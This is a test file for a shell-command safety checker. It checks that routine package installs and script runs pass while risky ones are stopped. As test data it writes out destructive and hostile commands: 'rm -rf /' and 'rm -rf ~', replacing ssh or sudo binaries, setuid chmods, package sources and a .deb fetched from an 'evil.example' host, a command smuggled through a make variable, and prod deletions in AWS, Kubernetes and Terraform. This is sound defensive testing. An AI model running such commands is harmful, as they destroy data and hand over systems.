// Wave 3 shell rules, on real components: system package managers (install vs remove), installs under
// /usr/local, script variables and positional parameters resolved in real scripts in real git
// workspaces, `${NAME:-default}` programs, and the make reader's abspath and `go env` outputs.
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { check } from '../../src/pipeline.js';
import { systemPackageConcern } from '../../src/intake/shell/system-packages.js';
import { isLocalCommand } from '../../src/intake/shell/local.js';
import { isObviouslyLocal } from '../../src/intake/shell/precheck.js';
import { readMakefiles } from '../../src/intake/shell/runners/make/makefile.js';
import { plan } from '../../src/intake/shell/runners/make/plan.js';
import { committedWorkspace } from './committed-workspace.js';

process.env.HOME = mkdtempSync(join(tmpdir(), 'firebreak-r3-home-'));

const workspace = (files: Record<string, string> = {}): string => committedWorkspace('r3', files);

async function verdict(command: string, cwd = workspace()): Promise<string> {
  const { report } = await check({ commands: [command], cwd, implicitConfig: false });
  return report.verdict;
}

describe('system package managers', () => {
  it('installing named packages and reads are routine, and in the walk', async () => {
    for (const c of ['apt-get install -y jq', 'apt-get -o Acquire::Retries=3 install -y --no-install-recommends jq', 'apt update', 'dnf install -y gcc', 'apk add --no-cache bash',
      'brew install jq', 'pacman -Syu --noconfirm', 'dpkg --print-architecture', 'dpkg -l', 'snap install go --classic',
      'brew untap --force homebrew/core', 'brew untap aws/tap', 'brew --force untap homebrew/cask']) {
      const argv = c.split(' ');
      expect(systemPackageConcern(argv[0], argv), c).toBeUndefined();
      expect(isLocalCommand(argv[0], argv), c).toBe(true);
    }
    expect(await verdict('sudo apt-get update && sudo apt-get install -y jq')).toBe('pass');
  });

  it('removals, package files, sources, command-running settings and lifted checks are not', async () => {
    for (const c of ['apt-get remove -y ssh', 'apt-get purge ssh', 'apt-get autoremove', 'apt-get dist-upgrade', 'apt-get install jq ssh-', 'apt install ./x.deb',
      'apt-get -o DPkg::Pre-Invoke::=id install jq', 'apt-get -c /tmp/apt.conf update', 'apt-get install --allow-unauthenticated x', 'dpkg -i x.deb', 'dpkg -r ssh',
      'pacman -Rns ssh', 'pacman -U x.pkg.tar.zst', 'brew uninstall git', 'brew untap', 'brew untap $TAP', 'brew untap --force homebrew/core --ignore-dependencies', 'brew tap evil/tools https://git.example.com/tools', 'yum remove ssh', 'apk del ssh', 'snap remove lxd',
      'snap install --dangerous x.snap', 'flatpak remote-add evil https://evil.example/r.flatpakrepo', 'dnf --setopt=gpgcheck=0 install x', 'nix-env -e git', 'apt-get']) {
      const argv = c.split(' ');
      expect(systemPackageConcern(argv[0], argv), c).toBeDefined();
      expect(isLocalCommand(argv[0], argv), c).toBe(false);
      // The fast path (no parse) never lets one through either.
      expect(isObviouslyLocal(c), c).toBe(false);
    }
    expect(await verdict('sudo apt-get remove -y openssh-server')).not.toBe('pass');
    expect(await verdict(`python3 -c "import subprocess; subprocess.run(['apt-get', 'purge', '-y', 'ssh'])"`)).not.toBe('pass');
  });

  it('a remove, purge or package file anywhere among the words is never routine (fuzzed)', () => {
    const managers = ['apt-get', 'apt', 'yum', 'dnf', 'apk', 'brew', 'snap', 'zypper'];
    const noise = fc.constantFrom('-y', '-q', '--no-install-recommends', 'jq', 'curl', 'git');
    fc.assert(fc.property(fc.constantFrom(...managers), fc.array(noise, { maxLength: 4 }), fc.constantFrom('remove', 'purge', 'erase', 'del', 'uninstall', 'autoremove'), (m, before, verb) => {
      const argv = [m, ...before.filter((w) => w.startsWith('-')), verb, 'openssh'];
      expect(systemPackageConcern(m, argv)).toBeDefined();
    }));
    fc.assert(fc.property(fc.constantFrom('apt-get', 'apt', 'dnf', 'yum'), fc.constantFrom('./x.deb', '/tmp/x.rpm', 'https://evil.example/x.deb', '$PKG', '../x.rpm'), (m, file) => {
      expect(systemPackageConcern(m, [m, 'install', '-y', file])).toBeDefined();
    }));
  });
});

describe('installs under /usr/local', () => {
  const fresh = `firebreak-r3-${process.pid}`;
  it('a new program, manual page or completion passes, with the undo in the evidence', async () => {
    const dir = workspace({ 'bin/tool': 'x' });
    const { report } = await check({ commands: [`install -m755 bin/tool /usr/local/bin/${fresh}`], cwd: dir, implicitConfig: false });
    expect(report.verdict).toBe('pass');
    expect(JSON.stringify(report)).toContain(`undo: sudo rm /usr/local/bin/${fresh}`);
    expect(await verdict(`install -d /usr/local/share/man/man1 && install -m644 tool.1 /usr/local/share/man/man1/${fresh}.1`, dir)).toBe('pass');
    expect(await verdict(`curl -fsSL -o /usr/local/bin/${fresh} https://github.com/o/r/releases/download/v1/x && chmod +x /usr/local/bin/${fresh}`, dir)).toBe('pass');
  });

  it('shadowing a system program, set-id modes, libraries, unknown archive contents and overwrites stop', async () => {
    const dir = workspace({ evil: 'x' });
    for (const c of ['sudo install -m755 evil /usr/local/bin/ssh', 'sudo cp evil /usr/local/bin/sudo', 'sudo cp evil /usr/local/bin/ls', `sudo install -m4755 evil /usr/local/bin/${fresh}`,
      `sudo chmod u+s /usr/local/bin/${fresh}`, `sudo chmod 2755 /usr/local/bin/${fresh}`, `sudo chmod o+w /usr/local/bin/${fresh}`, 'sudo cp evil /usr/local/lib/libz.so.1',
      'sudo cp evil /usr/local/share/ca-certificates/evil.crt', 'sudo tar -xzf t.tgz -C /usr/local/bin', 'sudo install evil /usr/bin/ssh', `sudo mv /usr/local/bin/${fresh} /tmp/`,
      `sudo cp evil /usr/local/bin/../../bin/${fresh}`, 'sudo chown root /usr/local/bin/x']) {
      expect(await verdict(c, dir), c).not.toBe('pass');
    }
  });
});

describe('script variables and positional parameters', () => {
  const scripts = {
    'scripts/retry': '#!/bin/bash\nset -euo pipefail\nfor i in 1 2 3; do "$@" && exit 0; sleep 1; done\n',
    'scripts/first': '#!/bin/sh\ncmd=$1\nshift\n$cmd "$@"\n',
    'scripts/reset': '#!/bin/sh\nset -- rm -rf /\n"$@"\n',
    'scripts/fn': '#!/bin/sh\nf() { "$@"; }\nf rm -rf ~\n',
    'scripts/dir.sh': '#!/bin/bash\nHERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\nROOT="$(cd "$(dirname "$0")/.." && pwd)"\nrm -rf "$HERE/out" "$ROOT/dist"\n"$HERE/gen.sh"\n',
    'scripts/gen.sh': '#!/bin/sh\necho ok\n',
    'scripts/up.sh': '#!/bin/bash\nHERE="$(cd "$(dirname "$0")" && pwd)"\nrm -rf "$HERE/.."\n',
    'scripts/docker.sh': '#!/bin/sh\nDOCKER="${DOCKER:-docker}"\n"${DOCKER}" "$@"\n',
  };
  const dir = workspace(scripts);

  it('"$@" and $1 are the words the script was run with', async () => {
    expect(await verdict('./scripts/retry go mod download', dir)).toBe('pass');
    expect(await verdict('bash scripts/retry npm test', dir)).toBe('pass');
    expect(await verdict('./scripts/retry rm -rf ~', dir)).not.toBe('pass');
    expect(await verdict('./scripts/retry terraform destroy -auto-approve', dir)).not.toBe('pass');
    expect(await verdict('cd scripts && ./retry kubectl delete ns prod', dir)).not.toBe('pass');
  });

  it('set --, a function body and an unknown shift make the parameters what they are, or unknown', async () => {
    expect(await verdict('./scripts/reset go test', dir)).not.toBe('pass');
    expect(await verdict('./scripts/fn go test', dir)).not.toBe('pass');
  });

  it('$(dirname "$0"), $BASH_SOURCE and cd ... && pwd resolve to the script folder, from any directory', async () => {
    expect(await verdict('./scripts/dir.sh', dir)).toBe('pass');
    expect(await verdict('bash scripts/dir.sh', dir)).toBe('pass');
    expect(await verdict('cd scripts && ./dir.sh', dir)).toBe('pass');
    expect(await verdict('./scripts/up.sh', dir)).not.toBe('pass');
  });

  it('a command substitution is a subshell: its cd does not move the line', async () => {
    expect(await verdict('X="$(cd /etc && pwd)"; rm -rf build', dir)).toBe('pass');
    expect(await verdict('X="$(cd /etc && pwd)"; rm -rf "$X/ssh"', dir)).not.toBe('pass');
  });

  it('${NAME:-default} is the value the line set, else the default', async () => {
    expect(await verdict('${DOCKER:-docker} build -t app .', dir)).toBe('pass');
    expect(await verdict('./scripts/docker.sh build -t app .', dir)).toBe('pass');
    expect(await verdict('DOCKER=aws; ${DOCKER:-docker} s3 rb s3://prod --force', dir)).not.toBe('pass');
    expect(await verdict('DOCKER=aws ./scripts/docker.sh s3 rb s3://prod --force', dir)).not.toBe('pass');
  });
});

describe('make reader', () => {
  function database(makefile: string) {
    const dir = workspace({ Makefile: makefile });
    const db = readMakefiles([join(dir, 'Makefile')], {
      dir, read: (path) => ({ ok: true, value: { path, shown: 'Makefile', text: makefile } }), exists: () => true,
      environment: {}, commandLine: {}, goals: [], includeDirs: [], evals: [], environmentOverrides: false,
    });
    return { dir, db };
  }

  it('$(abspath)/$(realpath) are absolute against the folder make runs in', () => {
    const { dir, db } = database('ROOT := $(abspath build/../out)\nall:\n\trm -rf $(ROOT)\n');
    expect(plan(db, ['all'], { exists: () => false }).lines[0].text).toBe(`rm -rf ${dir}/out`);
  });

  it('$(shell go env GOPATH) reads as ${GOPATH}, so an installed Go tool is that tool', async () => {
    const { db } = database('LINT := $(shell go env GOPATH)/bin/staticcheck\nlint:\n\t$(LINT) ./...\n');
    expect(plan(db, ['lint'], { exists: () => false }).lines[0].text).toBe('${GOPATH}/bin/staticcheck ./...');
    const dir = workspace({ Makefile: 'LINT := $(shell go env GOPATH)/bin/staticcheck\nlint:\n\t$(LINT) ./...\n' });
    expect(await verdict('make lint', dir)).toBe('pass');
    expect(await verdict('make lint LINT="rm -rf ~"', dir)).not.toBe('pass');
    expect(await verdict('${GOPATH}/bin/aws-nuke run --force', dir)).not.toBe('pass');
  });
});
